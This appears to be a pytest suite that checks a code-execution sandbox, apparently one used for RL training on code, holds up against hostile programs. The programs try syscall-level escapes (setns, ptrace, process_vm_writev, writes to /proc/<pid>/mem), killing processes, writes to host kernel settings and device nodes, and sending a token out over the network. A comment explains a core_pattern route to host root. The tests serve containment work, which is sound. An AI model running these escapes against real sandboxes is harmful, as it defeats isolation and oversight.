"""Hostile programs that try to ESCAPE the sandbox (issue #11): ctypes re-imported after ``sys.modules`` tricks
(libc, setns, ptrace, process_vm_writev, /proc/<pid>/mem), killing the trainer, the test process or the server,
the host kernel's settings and device nodes, the network and IPC. Each then defines ``solve()`` honestly: the
attack must be contained, and the next job on the same worker must see the sandbox as before
(`tests/hostile_helpers.py`).
"""

from __future__ import annotations

import pytest

from tests.hostile_helpers import HONEST, NEEDS_ISOLATION, Prog, absent, check_outcome, module_fixtures, startswith

pytestmark = NEEDS_ISOLATION

P = Prog

# --- ctypes re-imported after sys.modules tricks: libc, setns, ptrace, process_vm_writev ------------------------------
CTYPES_LOAD = """
import sys
for name in ("ctypes", "_ctypes", "ctypes.util"):
    sys.modules.pop(name, None)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def must_fail(what, result):
    if result is not None and result >= 0:
        print("SUCCEEDED", what, result)
"""
CTYPES = [
    P("ctypes_reimport_kill", "ctypes", CTYPES_LOAD + """
for pid in (TEST_PID, SENTINEL_PID):
    must_fail(f"kill {pid}", libc.kill(pid, 9))
libc.kill(1, 9)
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "SUCCEEDED")),
    P("ctypes_importlib_bypass", "ctypes", """
import importlib.util, os, sys, sysconfig
sys.modules.pop("_ctypes", None)
spec = importlib.util.spec_from_file_location("ctypes2", os.path.join(sysconfig.get_paths()["stdlib"],
                                              "ctypes", "__init__.py"))
mod = importlib.util.module_from_spec(spec)
attempt(spec.loader.exec_module, mod)
if hasattr(mod, "CDLL"):
    libc = mod.CDLL(None)
    if libc.kill(SENTINEL_PID, 9) == 0 or libc.unlink((MINE + "/keep.txt").encode()) == 0:
        print("SUCCEEDED")
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "SUCCEEDED")),
    P("ctypes_setns_unshare_mount", "ctypes", CTYPES_LOAD + """
import os
for ns in ("/proc/1/ns/net", "/proc/1/ns/mnt", "/proc/1/ns/user", f"/proc/{TEST_PID}/ns/net"):
    fd = attempt(os.open, ns, os.O_RDONLY)
    if isinstance(fd, int):
        must_fail("setns " + ns, libc.setns(fd, 0))
must_fail("unshare user", libc.unshare(0x10000000))  # CLONE_NEWUSER
must_fail("unshare mount", libc.unshare(0x00020000))  # CLONE_NEWNS
must_fail("mount tmpfs", libc.mount(b"none", (PROJECT + "/lit_coderl").encode(), b"tmpfs", 0, None))
must_fail("remount rw", libc.mount(PROJECT.encode(), PROJECT.encode(), None, 4096 | 32, None))
must_fail("open rw", libc.open((PROJECT + "/lit_coderl/sandbox/server.py").encode(), 1 | 1024))
must_fail("chroot", libc.chroot(b"/tmp"))
must_fail("setuid 0", libc.setuid(0))
must_fail("setresuid 0", libc.setresuid(0, 0, 0))
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "SUCCEEDED")),
    P("ctypes_ptrace_server", "ctypes", CTYPES_LOAD + """
for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
    for pid in (1, TEST_PID, SENTINEL_PID):
        must_fail(f"ptrace {request} {pid}", libc.ptrace(request, pid, 0, 0))
libc.prctl(4, 1, 0, 0, 0)  # make myself dumpable: the server must stay protected
must_fail("ptrace attach 1 after prctl", libc.ptrace(16, 1, 0, 0))
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "SUCCEEDED")),
    P("ctypes_process_vm_writev", "ctypes", CTYPES_LOAD + """
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(TOKEN.encode() * 4)
local = iovec(ctypes.cast(buf, ctypes.c_void_p), len(buf))
for pid in (1, TEST_PID, SENTINEL_PID):
    for addr in (0x400000, 0x555555554000, 0x7f0000000000):
        remote = iovec(addr, len(buf))
        for number in (311, 310):  # process_vm_writev, process_vm_readv
            must_fail(f"{number} {pid}", libc.syscall(number, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "SUCCEEDED")),
    P("proc1_mem_write", "ctypes", """
import posix
for pid in ("1", str(TEST_PID), str(SENTINEL_PID)):
    fd = attempt(posix.open, f"/proc/{pid}/mem", posix.O_RDWR)
    if isinstance(fd, int):
        print("SUCCEEDED open mem", pid)
        posix.lseek(fd, 0x400000, 0)
        attempt(posix.write, fd, b"\\xcc" * 4096)
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "SUCCEEDED")),
    P("ctypes_raw_syscalls", "ctypes", CTYPES_LOAD + """
must_fail("kill", libc.syscall(62, SENTINEL_PID, 9))
must_fail("kill test", libc.syscall(62, TEST_PID, 9))
must_fail("tgkill", libc.syscall(234, SENTINEL_PID, SENTINEL_PID, 9))
must_fail("unlinkat", libc.syscall(263, -100, (MINE + "/keep.txt").encode(), 0))
must_fail("rename", libc.syscall(82, (MINE + "/keep.txt").encode(), (MINE + "/x-" + TOKEN).encode()))
pidfds = [libc.syscall(434, pid, 0) for pid in (TEST_PID, SENTINEL_PID)]  # pidfd_open
for fd in pidfds:
    must_fail("pidfd_open", fd)
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "SUCCEEDED")),
    # the job's user is the host's root (uid 0 outside the user namespace): the host's device nodes, bound into
    # /dev, are its own files. A real attack makes /dev/null mode 0 for every unprivileged process on the machine;
    # this one sets each node's current mode (no change) to prove the access.
    P("host_device_nodes_chmod", "ctypes", """
import os, posix
for path in ("/dev/null", "/dev/zero", "/dev/urandom", "/dev/random", "/dev/full", "/dev/tty"):
    mode = os.stat(path).st_mode & 0o7777
    if not isinstance(attempt(posix.chmod, path, mode), BaseException):
        print("SUCCEEDED chmod", path)
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "SUCCEEDED")),
]

# --- killing the trainer, the test process, the sandbox server ----------------------------------------------------
KILLS = [
    P("kill_posix_test_and_sentinel", "kill", """
import posix
for pid in (TEST_PID, SENTINEL_PID):
    attempt(posix.kill, pid, 9)
    attempt(posix.kill, -pid, 9)
""" + HONEST, "pass"),
    P("kill_os_reloaded", "kill", """
import importlib, os
importlib.reload(os)
for pid in (TEST_PID, SENTINEL_PID):
    attempt(os.kill, pid, 9)
attempt(os.killpg, SENTINEL_PID, 9)
""" + HONEST, "pass"),
    P("kill_parent_every_signal", "kill", """
import posix, signal
for sig in range(1, signal.NSIG):
    if sig not in (signal.SIGKILL, signal.SIGSTOP):
        attempt(posix.kill, posix.getppid(), sig)
attempt(posix.kill, posix.getppid(), signal.SIGSTOP)
attempt(posix.kill, posix.getppid(), signal.SIGKILL)
attempt(posix.kill, 1, signal.SIGKILL)
""" + HONEST, "pass"),
    P("kill_everything_visible", "kill", """
import os, posix
for sig in (19, 15, 9):  # every low pid it sees (in its PID namespace: the server alone)
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and 1 <= int(p) < 64]:
        if pid != posix.getpid():
            attempt(posix.kill, pid, sig)
""" + HONEST, "pass"),
    P("killpg_own_group", "kill", """
import posix
posix.killpg(posix.getpgrp(), 9)
""" + HONEST, "error", check=lambda r: startswith(r.error, "ProcessLookupError")),
]

# --- the host kernel's settings (/proc/sys) ---------------------------------------------------------------------------
# A real attack writes kernel.core_pattern = "|/bin/sh -c ..." and crashes a process: host root code execution. These
# programs only prove the access: one opens core_pattern for writing without writing, one writes vm.swappiness's
# current value back (no change to the machine).
KERNEL = [
    P("sysctl_core_pattern_writable", "kernel", """
import posix
fd = attempt(posix.open, "/proc/sys/kernel/core_pattern", posix.O_WRONLY)
if isinstance(fd, int):
    print("OPENED core_pattern for writing")
    posix.close(fd)
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "OPENED")),
    P("sysctl_rewrite_same_value", "kernel", """
import posix
current = open("/proc/sys/vm/swappiness").read().strip().encode()
fd = attempt(posix.open, "/proc/sys/vm/swappiness", posix.O_WRONLY)
if isinstance(fd, int) and attempt(posix.write, fd, current) == len(current):
    print("WROTE a host-wide sysctl")
""" + HONEST, "pass", check=lambda r: absent(r.stdout, "WROTE")),
]

# --- network and IPC ------------------------------------------------------------------------------------------------
NETWORK = [
    P("socket_tcp_to_host", "network", """
import _socket
for host in ("127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1"):
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(0.3)
    if not isinstance(attempt(s.connect, (host, PORT)), BaseException):
        s.send((TOKEN + NAME).encode())
""" + HONEST, "pass"),
    P("socket_abstract_unix", "network", """
import _socket, socket
for make in (lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM),
             lambda: _socket.socket(_socket.AF_UNIX, _socket.SOCK_SEQPACKET),
             lambda: socket.socketpair()[0], lambda: socket.fromfd(0, socket.AF_UNIX, socket.SOCK_STREAM)):
    s = attempt(make)
    if not isinstance(s, BaseException) and not isinstance(attempt(s.connect, "\\0" + TOKEN), BaseException):
        attempt(s.send, (TOKEN + NAME).encode())
""" + HONEST, "pass"),
    P("socket_unix_file_in_bound_folder", "network", """
import _socket, socket
for make in (lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM),
             lambda: _socket.socket(_socket.AF_UNIX, _socket.SOCK_SEQPACKET),
             lambda: socket.socketpair()[0], lambda: socket.fromfd(0, socket.AF_UNIX, socket.SOCK_STREAM)):
    s = attempt(make)
    if not isinstance(s, BaseException) and not isinstance(attempt(s.connect, SOCKET_FILE), BaseException):
        attempt(s.send, (TOKEN + NAME).encode())
""" + HONEST, "pass"),
    P("socket_udp_dns_raw", "network", """
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt(u.sendto, (TOKEN + NAME).encode(), ("127.0.0.1", PORT))
attempt(u.sendto, TOKEN.encode(), ("8.8.8.8", 53))
attempt(socket.getaddrinfo, "example.com", 80)
attempt(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
attempt(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)
""" + HONEST, "pass"),
    P("sysv_ipc_left_for_next_job", "ipc", CTYPES_LOAD + """
shm = libc.shmget(0x7E57, 1 << 20, 0o1000 | 0o666)   # IPC_CREAT
addr = libc.shmat(shm, None, 0) if shm >= 0 else -1
sem = libc.semget(0x7E58, 4, 0o1000 | 0o666)
msg = libc.msgget(0x7E59, 0o1000 | 0o666)
print(shm, sem, msg, addr)
""" + HONEST, "pass"),
    P("posix_shm_left_for_next_job", "ipc", """
import _posixshmem, posix
fd = attempt(_posixshmem.shm_open, "/" + TOKEN, posix.O_CREAT | posix.O_RDWR, 0o666)
if isinstance(fd, int):
    posix.write(fd, TOKEN.encode())
""" + HONEST, "pass"),
]

PROGRAMS = CTYPES + KILLS + KERNEL + NETWORK


host, outcomes = module_fixtures(PROGRAMS)


@pytest.mark.parametrize("name", [p.name for p in PROGRAMS])
def test_hostile_program(name, host, outcomes):
    check_outcome(host, outcomes[name])


def test_host_intact_after_all(host, outcomes):
    assert host.check() == []
